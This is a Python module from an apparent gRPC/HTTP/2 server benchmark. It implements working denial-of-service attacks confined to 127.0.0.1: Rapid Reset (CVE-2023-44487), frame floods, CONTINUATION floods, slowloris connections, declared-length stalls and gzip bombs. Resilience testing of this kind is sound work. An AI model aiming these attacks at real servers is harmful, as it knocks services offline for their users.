"""The attacks: each a bounded coroutine against one server, and the raw connections they use.

Every attack stops at ``target.deadline`` or once it has spent its budget (frames,
connections or cycles, scaled by ``--intensity``), whichever comes first.  A connection the
server closes is replaced (a real attacker reconnects), up to :data:`MAX_RECONNECTS`.
Everything goes to 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from benchmarks.attacks import frames as f
from benchmarks.attacks.measure import AttackerView

from fastinject.interop import messages_pb2

MAX_RECONNECTS = 2000
BATCH = 200
"""Frames written per drain: enough to keep the socket full, few enough to stop on time."""


class RawConnection:
    """An attacker's HTTP/2 connection: writes raw bytes, parses (or ignores) what comes back."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                 target: Target, read: bool, speaks_h2: bool) -> None:
        self.writer = writer
        # Whether we sent the preface: only then are the server's SETTINGS acknowledged (a
        # slowloris connection must send nothing more).
        self.speaks_h2 = speaks_h2
        self.blocks = f.HeaderBlocks()
        self.next_stream_id = 1
        self.closed = False
        self._target = target
        self._reader_task = asyncio.ensure_future(self._read(reader)) if read else None

    def new_stream_id(self) -> int:
        """The next client stream id."""
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        return stream_id

    async def _read(self, reader: asyncio.StreamReader) -> None:
        buffer = bytearray()
        view = self._target.view
        try:
            while data := await reader.read(65536):
                buffer += data
                for kind, flags, _, payload in f.parse_frames(buffer):
                    if kind == f.GOAWAY and len(payload) >= 8:
                        code = int.from_bytes(payload[4:8], "big")
                        view.goaways[code] = view.goaways.get(code, 0) + 1
                    elif kind == f.RST_STREAM and len(payload) == 4:
                        code = int.from_bytes(payload, "big")
                        view.resets[code] = view.resets.get(code, 0) + 1
                    elif kind == f.SETTINGS and not flags & 1 and self.speaks_h2:
                        self.writer.write(f.frame(f.SETTINGS, 1, 0))
        except (ConnectionError, ssl.SSLError):
            pass
        if not self.closed:
            view.closed_by_server += 1
        self.closed = True

    async def send(self, data: bytes, frames: int = 0) -> bool:
        """Write ``data`` (``frames`` frames) and wait for it to leave.

        False once it cannot: the connection closed, or the write was still blocked at the
        deadline.
        """
        if self.closed or self.writer.is_closing():
            return False
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), max(0.0, self._target.time_left()))
        except (ConnectionError, TimeoutError, ssl.SSLError):
            return False
        self._target.view.frames += frames
        return not self.closed

    async def hold(self) -> None:
        """Keep the connection open (reading) until the deadline or until the server closes."""
        while not self.closed and self._target.time_left() > 0:
            await asyncio.sleep(min(0.1, self._target.time_left()))

    def close(self) -> None:
        """Drop the connection."""
        self.closed = True
        if self._reader_task is not None:
            self._reader_task.cancel()
        self.writer.transport.abort()


@dataclass
class Target:
    """The server under attack, the attack's deadline and budget, and what it saw."""

    port: int
    tls: bool
    deadline: float  # on the event loop's clock
    intensity: float
    view: AttackerView

    def time_left(self) -> float:
        """Seconds until the deadline."""
        return self.deadline - asyncio.get_running_loop().time()

    def budget(self, base: int) -> int:
        """``base`` scaled by the run's intensity (at least 1)."""
        return max(1, int(base * self.intensity))

    def client_context(self) -> ssl.SSLContext:
        """A TLS client context offering ALPN h2 that trusts anything (loopback benchmark)."""
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context

    async def connect(self, *, preface: bool = True, read: bool = True,
                      rcvbuf: int | None = None) -> RawConnection | None:
        """A new connection (TLS when the server serves it), with our preface and SETTINGS."""
        loop = asyncio.get_running_loop()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        try:
            async with asyncio.timeout(max(0.01, self.time_left())):
                await loop.sock_connect(sock, ("127.0.0.1", self.port))
                reader, writer = await asyncio.open_connection(
                    sock=sock, ssl=self.client_context() if self.tls else None,
                    server_hostname="localhost" if self.tls else None,
                )
        except (OSError, TimeoutError, ssl.SSLError):
            sock.close()
            if self.time_left() > 0:  # not merely cut short by the deadline
                self.view.connect_failures += 1
            return None
        self.view.connections += 1
        connection = RawConnection(reader, writer, self, read, preface)
        if preface and not await connection.send(f.PREFACE + f.frame(f.SETTINGS, 0, 0)):
            connection.close()
            return None
        return connection


async def flood(target: Target, batch: Callable[[RawConnection], bytes], budget: int,
                setup: Callable[[RawConnection], bytes] | None = None) -> None:
    """Send ``batch(conn)`` (BATCH frames each) until ``budget`` frames, reconnecting."""
    sent = reconnects = 0
    while sent < budget and target.time_left() > 0 and reconnects < MAX_RECONNECTS:
        reconnects += 1
        connection = await target.connect()
        if connection is None:
            await asyncio.sleep(0.05)
            continue
        try:
            if setup is not None and not await connection.send(setup(connection), 1):
                continue
            while sent < budget and await connection.send(batch(connection), BATCH):
                sent += BATCH
        finally:
            connection.close()


def _open_call(connection: RawConnection, end: bool = False) -> bytes:
    """HEADERS of a UnaryCall request on a new stream."""
    block = connection.blocks.encode(f.request_headers())
    flags = f.END_HEADERS | (f.END_STREAM if end else 0)
    return f.frame(f.HEADERS, flags, connection.new_stream_id(), block)


# -- the attacks ------------------------------------------------------------------------------


async def rapid_reset(target: Target) -> None:
    """CVE-2023-44487: HEADERS then RST_STREAM, over and over (100,000 streams)."""
    def batch(connection: RawConnection) -> bytes:
        parts = []
        for _ in range(BATCH // 2):
            stream_id = connection.next_stream_id
            parts.append(_open_call(connection))
            parts.append(f.frame(f.RST_STREAM, 0, stream_id, f.CANCEL.to_bytes(4, "big")))
        return b"".join(parts)
    await flood(target, batch, target.budget(200_000))


def _repeated(frame: bytes) -> Callable[[RawConnection], bytes]:
    chunk = frame * BATCH
    return lambda connection: chunk


async def settings_flood(target: Target) -> None:
    """Empty SETTINGS frames (each owes an ACK), 500,000."""
    await flood(target, _repeated(f.frame(f.SETTINGS, 0, 0)), target.budget(500_000))


async def ping_flood(target: Target) -> None:
    """PING frames (each owes an ACK), 500,000."""
    await flood(target, _repeated(f.frame(f.PING, 0, 0, b"attack!!")), target.budget(500_000))


async def empty_data_flood(target: Target) -> None:
    """Empty DATA frames on an open call, 500,000."""
    stream: dict[int, int] = {}

    def setup(connection: RawConnection) -> bytes:
        stream[id(connection)] = connection.next_stream_id
        return _open_call(connection)

    def batch(connection: RawConnection) -> bytes:
        return f.frame(f.DATA, 0, stream[id(connection)]) * BATCH

    await flood(target, batch, target.budget(500_000), setup)


async def window_update_flood(target: Target) -> None:
    """WINDOW_UPDATE frames of 1 byte on the connection, 500,000."""
    frame = f.frame(f.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
    await flood(target, _repeated(frame), target.budget(500_000))


async def priority_flood(target: Target) -> None:
    """PRIORITY frames for idle streams, 500,000."""
    def batch(connection: RawConnection) -> bytes:
        first = connection.next_stream_id + 10_000
        return b"".join(f.frame(f.PRIORITY, 0, first + 2 * i, b"\0\0\0\0\x10")
                        for i in range(BATCH))
    await flood(target, batch, target.budget(500_000))


async def unknown_frame_flood(target: Target) -> None:
    """Frames of an unknown type (to be ignored, RFC 9113 5.5), 500,000."""
    await flood(target, _repeated(f.frame(f.UNKNOWN_TYPE, 0, 0, b"ignoreme")),
                target.budget(500_000))


async def continuation_flood(target: Target) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end it, 100,000."""
    stream: dict[int, int] = {}
    field = f.HeaderBlocks()

    def setup(connection: RawConnection) -> bytes:
        stream[id(connection)] = connection.next_stream_id
        block = connection.blocks.encode(f.request_headers())
        return f.frame(f.HEADERS, 0, connection.new_stream_id(), block)

    literal = field.encode([(b"x-flood", b"a" * 32)])  # indexed after the first: keep literal

    def batch(connection: RawConnection) -> bytes:
        return f.frame(f.CONTINUATION, 0, stream[id(connection)], literal) * BATCH

    await flood(target, batch, target.budget(100_000), setup)


async def writer_never_reads(target: Target) -> None:
    """Ten connections sending calls (64 KiB answers) and PINGs that never read.

    50,000 frames each, with a 4 KiB receive buffer.
    """
    request = messages_pb2.SimpleRequest(response_size=64 * 1024).SerializeToString()
    message = f.grpc_message_prefix(len(request)) + request

    async def one() -> None:
        connection = await target.connect(read=False, rcvbuf=4096)
        if connection is None:
            return
        try:
            sent = 0
            while sent < target.budget(50_000):
                parts = []
                for _ in range(BATCH // 4):
                    stream_id = connection.next_stream_id
                    parts.append(_open_call(connection))
                    parts.append(f.frame(f.DATA, f.END_STREAM, stream_id, message))
                    parts.append(f.frame(f.PING, 0, 0, b"neverack"))
                    parts.append(f.frame(f.SETTINGS, 0, 0))
                if not await connection.send(b"".join(parts), BATCH):
                    break
                sent += BATCH
            await connection.hold()
        finally:
            connection.close()

    await asyncio.gather(*(one() for _ in range(10)))


async def _declared_length(target: Target, body: int) -> None:
    """Four connections with 1,000 calls each whose message declares 4 MiB.

    Each sends ``body`` bytes of it; the connections are held open until the deadline.
    """
    prefix = f.grpc_message_prefix(4 * 1024 * 1024)

    async def one() -> None:
        connection = await target.connect()
        if connection is None:
            return
        try:
            for _ in range(10):
                parts = []
                for _ in range(100):
                    stream_id = connection.next_stream_id
                    parts.append(_open_call(connection))
                    parts.append(f.frame(f.DATA, 0, stream_id, prefix + b"\0" * body))
                if not await connection.send(b"".join(parts), 200):
                    return
            await connection.hold()
        finally:
            connection.close()

    await asyncio.gather(*(one() for _ in range(target.budget(4))))


async def declared_length(target: Target) -> None:
    """4 x 1,000 streams whose message prefix declares 4 MiB (16 GiB claimed, ~60 KB sent)."""
    await _declared_length(target, 0)


async def partial_messages(target: Target) -> None:
    """4 x 1,000 streams each sending 16 KiB of a declared 4 MiB message (64 MB sent)."""
    await _declared_length(target, 16 * 1024 - 5)


async def _slowloris(target: Target, opening: Callable[[], bytes]) -> None:
    """500 TCP connections that send ``opening()`` and then nothing, held until the deadline."""
    async def one() -> None:
        connection = await _plain(target)
        if connection is None:
            return
        try:
            data = opening()
            if not data or await connection.send(data, 0):
                await connection.hold()
        finally:
            connection.close()

    await asyncio.gather(*(one() for _ in range(target.budget(500))))


async def _plain(target: Target) -> RawConnection | None:
    """A TCP connection without TLS even to a TLS server (for half a ClientHello)."""
    saved, target.tls = target.tls, False
    try:
        return await target.connect(preface=False)
    finally:
        target.tls = saved


def _half_client_hello() -> bytes:
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    return hello[: len(hello) // 2]


async def slowloris_preface(target: Target) -> None:
    """500 connections that send half the HTTP/2 preface, then nothing."""
    await _slowloris(target, lambda: f.PREFACE[:12])


async def slowloris_client_hello(target: Target) -> None:
    """500 TCP connections to a TLS port that send half a ClientHello, then nothing."""
    await _slowloris(target, _half_client_hello)


async def slowloris_silent(target: Target) -> None:
    """500 TCP connections that send nothing at all."""
    await _slowloris(target, lambda: b"")


async def churn(target: Target) -> None:
    """Connect, send the preface and SETTINGS, close: 20,000 cycles, 8 at a time."""
    budget = target.budget(20_000)
    done = 0

    async def churner() -> None:
        nonlocal done
        while done < budget and target.time_left() > 0:
            done += 1
            connection = await target.connect(read=False)
            if connection is not None:
                connection.close()

    await asyncio.gather(*(churner() for _ in range(8)))


def _gzip_calls(connection: RawConnection, message: bytes, calls: int) -> bytes:
    """``calls`` UnaryCall requests whose one message is ``message``, sent as gzip."""
    body = f.grpc_message_prefix(len(message), compressed=True) + message
    parts = []
    for _ in range(calls):
        stream_id = connection.next_stream_id
        block = connection.blocks.encode([*f.request_headers(), (b"grpc-encoding", b"gzip")])
        parts.append(f.frame(f.HEADERS, f.END_HEADERS, connection.new_stream_id(), block))
        for offset in range(0, len(body), 16384):
            last = offset + 16384 >= len(body)
            parts.append(f.frame(f.DATA, f.END_STREAM if last else 0, stream_id,
                                 body[offset : offset + 16384]))
    return b"".join(parts)


async def _gzip_flood(target: Target, message: bytes, calls: int, pause: float,
                      budget: int) -> None:
    """Send ``calls`` gzip calls of ``message``, then pause, until ``budget`` calls.

    The pause keeps the calls within the server's flow-control windows (the attacker does not
    read them) while far more work arrives than a Python server can decompress.
    """
    sent = reconnects = 0
    while sent < budget and target.time_left() > 0 and reconnects < MAX_RECONNECTS:
        reconnects += 1
        connection = await target.connect()
        if connection is None:
            await asyncio.sleep(0.05)
            continue
        try:
            batch = _gzip_calls(connection, message, calls)
            while sent < budget and await connection.send(batch, calls):
                sent += calls
                await asyncio.sleep(min(pause, max(0.0, target.time_left())))
                batch = _gzip_calls(connection, message, calls)
        finally:
            connection.close()


async def gzip_members(target: Target) -> None:
    """Gzip requests of 60 KiB of one-byte gzip members each, 200 a second (2,000 calls)."""
    member = zlib.compress(b"x", wbits=31)
    await _gzip_flood(target, member * (60 * 1024 // len(member)), 1, 0.005,
                      target.budget(2_000))


async def gzip_bomb(target: Target) -> None:
    """4 KiB gzip requests inflating to a 4 MiB SimpleRequest, 150 a second (1,500 calls)."""
    request = messages_pb2.SimpleRequest(
        payload=messages_pb2.Payload(body=bytes(4 * 1024 * 1024 - 1024))
    ).SerializeToString()
    await _gzip_flood(target, zlib.compress(request, 9, wbits=31), 15, 0.1,
                      target.budget(1_500))


@dataclass(frozen=True)
class Attack:
    """One attack: its table name, whether it needs a TLS server, and the coroutine."""

    name: str
    run: Callable[[Target], Awaitable[None]]
    tls: bool = False

    @property
    def description(self) -> str:
        """The first line of the coroutine's docstring."""
        return (self.run.__doc__ or "").strip().splitlines()[0]


ATTACKS: tuple[Attack, ...] = (
    Attack("rapid-reset", rapid_reset),
    Attack("settings-flood", settings_flood),
    Attack("ping-flood", ping_flood),
    Attack("empty-data-flood", empty_data_flood),
    Attack("window-update-flood", window_update_flood),
    Attack("priority-flood", priority_flood),
    Attack("unknown-frame-flood", unknown_frame_flood),
    Attack("continuation-flood", continuation_flood),
    Attack("writer-never-reads", writer_never_reads),
    Attack("declared-length", declared_length),
    Attack("partial-messages", partial_messages),
    Attack("slowloris-preface", slowloris_preface),
    Attack("slowloris-hello", slowloris_client_hello, tls=True),
    Attack("slowloris-silent", slowloris_silent),
    Attack("churn", churn),
    Attack("gzip-members", gzip_members),
    Attack("gzip-bomb", gzip_bomb),
)
"""Every attack, in the order of the table.  Add new ones here (see the package docstring)."""

ATTACKS_BY_NAME = {attack.name: attack for attack in ATTACKS}
